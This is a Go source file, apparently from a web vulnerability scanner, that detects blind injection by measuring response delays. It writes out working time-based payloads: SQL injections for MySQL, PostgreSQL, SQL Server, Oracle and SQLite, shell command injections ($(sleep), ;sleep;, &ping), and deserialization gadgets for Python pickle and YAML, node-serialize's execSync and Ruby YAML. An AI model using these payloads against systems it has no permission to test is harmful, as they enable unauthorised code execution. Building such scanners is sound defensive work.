package inject

import (
	"context"
	"encoding/base64"
	"fmt"
	"log/slog"
	"slices"
	"strings"
	"time"

	"github.com/fastness/fastness/scan/finding"
	"github.com/fastness/fastness/scan/internal/check"
	"github.com/fastness/fastness/scan/internal/probe"
	"github.com/fastness/fastness/scan/wire"
)

// delay is a value that makes who runs it wait, for so many units. A unit is a second, or
// an amount of work that takes some time.
type delay struct {
	language string
	write    func(base string, units int) string
	// works is set if a unit is work: how long it takes is not known beforehand.
	works bool
}

// slow makes a check of a list of delays, for places where quicker checks have proven
// nothing. It measures, so nothing else must be under way.
func slow(kind finding.Kind, list func(s spot) []delay, known *proven) []check.Check {
	try := func(ctx context.Context, t *probe.Target, s spot) (check.Claim, bool) {
		if known.has(s) {
			return check.Claim{}, false
		}
		return delays(ctx, t, s, list(s))
	}
	out := both(kind, try)
	for i := range out {
		out[i].Alone = true
	}
	return out
}

// took sends a value and returns how long the answer took, or false if there was none.
func (s spot) took(ctx context.Context, t *probe.Target, value string) (*wire.Exchange, time.Duration, bool) {
	r := s.c.With(s.point.In, s.point.Name, value).Request()
	r.Why, r.NoRetry = s.why, true
	ex := t.Once(ctx, s.user, r)
	return ex, ex.Took, ex.Status != 0 && ex.Status != 429 && ex.Status != 503
}

// The least that a delay has to be, beyond the slowest answer without one.
const (
	leastSleep = 700 * time.Millisecond
	leastWork  = 200 * time.Millisecond
	// busy is how long an answer takes that is slow as it is: there, not all is tried.
	busy = 250 * time.Millisecond
)

// delays tries the list. The first answer that is late is asked for again and again: none,
// twice as much, none, as much.
func delays(ctx context.Context, t *probe.Target, s spot, list []delay) (claim check.Claim, found bool) {
	if len(list) == 0 {
		return claim, false
	}
	_, usual, ok := s.took(ctx, t, s.text())
	if !ok {
		return claim, false
	}
	if usual > busy {
		list = list[:min(len(list), 3)]
	}
	for _, d := range list {
		least := leastSleep
		if d.works {
			least = leastWork
		}
		late, took, ok := s.took(ctx, t, d.write(s.text(), 1))
		if ctx.Err() != nil {
			return claim, false
		}
		if !ok || took < usual+least {
			continue
		}
		calm, times, follows := s.follows(ctx, t, d, usual, least, 3)
		if follows { // Once may be chance.
			_, _, follows = s.follows(ctx, t, d, usual, least, 2)
		}
		t.Logger().Debug("an answer was late", slog.String("operation", s.op.String()), slog.String("point", s.point.String()),
			slog.String("language", d.language), slog.Any("units", times), slog.Bool("follows", follows))
		if follows {
			return check.Claim{
				Says: fmt.Sprintf("the time of the answer follows the time that is asked for in %s, by %s: %q", s.point, d.language, d.write(s.text(), 1)),
				Control: fmt.Sprintf("asked for nothing and for one, two and three units in turn, it took %s, and the same again; the values differ in a number alone, so a slow target or one that dislikes such texts would not follow",
					strings.Join(times, ", ")),
				Evidence: []finding.Evidence{evidence("one unit", late), evidence("none", calm)},
			}, true
		}
	}
	return claim, false
}

// follows reports whether the time grows with what is asked for: nothing takes none, twice
// as much takes twice as long. Machines that have more to do get some tries.
func (s spot) follows(ctx context.Context, t *probe.Target, d delay, usual, least time.Duration, tries int) (calm *wire.Exchange, times []string, ok bool) {
	for range tries {
		if calm, times, ok = s.series(ctx, t, d, usual, least); ok || ctx.Err() != nil {
			break
		}
	}
	return calm, times, ok
}

func (s spot) series(ctx context.Context, t *probe.Target, d delay, usual, least time.Duration) (calm *wire.Exchange, times []string, ok bool) {
	unit := time.Duration(0)
	for _, units := range []int{0, 1, 0, 2, 0, 3} {
		ex, took, answered := s.took(ctx, t, d.write(s.text(), units))
		times = append(times, fmt.Sprintf("%d: %s", units, round(took)))
		extra := took - usual
		switch {
		case !answered:
			return nil, times, false
		case units == 0:
			calm = ex
			if extra > least/2 {
				return nil, times, false
			}
		case units == 1:
			unit = extra
			if unit < least {
				return nil, times, false
			}
		}
		low, high := unit*time.Duration(units)*7/10, unit*time.Duration(units)*16/10
		if !d.works { // Nobody sleeps for less than they are told.
			low, high = time.Duration(units)*time.Second*95/100, time.Duration(units)*time.Second+least
		}
		if units > 0 && (extra < low || extra > high) {
			return nil, times, false
		}
	}
	return calm, times, true
}

func round(d time.Duration) string { return d.Round(10 * time.Millisecond).String() }

// sqlDelays are for statements, in text and out of it. None of them has a condition that
// is always true: they may be in one that changes something.
func sqlDelays(s spot) []delay {
	if !texts(s) && !s.numeric() {
		return nil
	}
	seconds := func(language, format string) delay {
		return delay{language: language, write: func(base string, n int) string { return base + fmt.Sprintf(format, n) }}
	}
	rows := func(format string) delay {
		return delay{language: "SQL of SQLite", works: true, write: func(base string, n int) string {
			return base + fmt.Sprintf(format, fmt.Sprintf("(SELECT count(*)*0 FROM (WITH RECURSIVE q(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM q LIMIT %d) SELECT x FROM q))", max(n*1_500_000, 1)))
		}}
	}
	quoted := []delay{
		seconds("SQL of MySQL", "'-(SELECT 1 FROM (SELECT SLEEP(%d))q)-'"),
		seconds("SQL of PostgreSQL", "'||(SELECT '' FROM pg_sleep(%d))||'"),
		rows("'||substr(%s,2)||'"),
		seconds("SQL of SQL Server", "';WAITFOR DELAY '0:0:%d'--"),
		seconds("SQL of Oracle", "'||dbms_pipe.receive_message('fz',%d)||'"),
	}
	numbers := []delay{
		seconds("SQL of MySQL", "-(SELECT 0 FROM (SELECT SLEEP(%d))q)"),
		seconds("SQL of PostgreSQL", "-(SELECT 0 FROM pg_sleep(%d))"),
		rows("-%s"),
		seconds("SQL of SQL Server", ";WAITFOR DELAY '0:0:%d'--"),
	}
	if s.numeric() {
		return slices.Concat(numbers, quoted)
	}
	return quoted
}

// shellDelays are for commands whose output nobody sees.
func shellDelays(s spot) []delay {
	if !texts(s) {
		return nil
	}
	seconds := func(format string) delay {
		return delay{language: "a command of the shell", write: func(base string, n int) string {
			return base + strings.ReplaceAll(format, "SLEEP", fmt.Sprintf("sleep %d", n))
		}}
	}
	return []delay{
		seconds("$(SLEEP)"), seconds(";SLEEP;"), seconds("';SLEEP;'"), seconds("\";SLEEP;\""), seconds("|SLEEP"),
		{language: "a command of Windows", write: func(base string, n int) string { return fmt.Sprintf("%s&ping -n %d 127.0.0.1&", base, n+1) }},
	}
}

// objectDelays are objects that run something when they are read.
func objectDelays(s spot) []delay {
	if !blobLike(s) {
		return nil
	}
	pickle := func(_ string, n int) string { return fmt.Sprintf("cos\nsystem\n(S'sleep %d'\ntR.", n) }
	node := func(_ string, n int) string {
		return fmt.Sprintf(`{"fz":"_$$ND_FUNC$$_function(){require('child_process').execSync('sleep %d')}()"}`, n)
	}
	coded := func(write func(string, int) string) func(string, int) string {
		return func(base string, n int) string { return base64.StdEncoding.EncodeToString([]byte(write(base, n))) }
	}
	return []delay{
		{language: "an object of Python (pickle)", write: coded(pickle)},
		{language: "an object of Python (YAML)", write: func(_ string, n int) string { return fmt.Sprintf("!!python/object/apply:time.sleep [%d]", n) }},
		{language: "an object of Node.js (node-serialize)", write: coded(node)},
		{language: "an object of Node.js (node-serialize)", write: node},
		{language: "an object of Python (pickle)", write: pickle},
		{language: "an object of Ruby (YAML)", write: func(_ string, n int) string {
			return fmt.Sprintf("--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: `sleep %d`\n", n)
		}},
	}
}

// blobLike reports whether a place takes an object that a program wrote: by the name, the
// media type, or how the value begins.
func blobLike(s spot) bool {
	if s.point.In == "body" && s.point.Name == "" {
		for _, media := range []string{"yaml", "octet-stream", "java-serialized", "pickle", "x-python"} {
			if strings.Contains(s.c.Media, media) {
				return true
			}
		}
	}
	if !takesText(s) {
		return false
	}
	text := s.text()
	for _, begin := range []string{"rO0", "gAS", "gAN", "AAEAAAD", "O:", "a:1:", "BAh", "eyJmeiI", "KGRw", "Y29z", "Y2"} {
		if strings.HasPrefix(text, begin) {
			return true
		}
	}
	return hasPart(s.point.Last(), "data", "state", "session", "object", "payload", "serialized", "pickle", "pickled", "blob", "viewstate", "cart", "cache", "dump", "snapshot", "backup", "config", "yaml", "settings", "prefs", "preferences", "profile", "import", "export", "content")
}
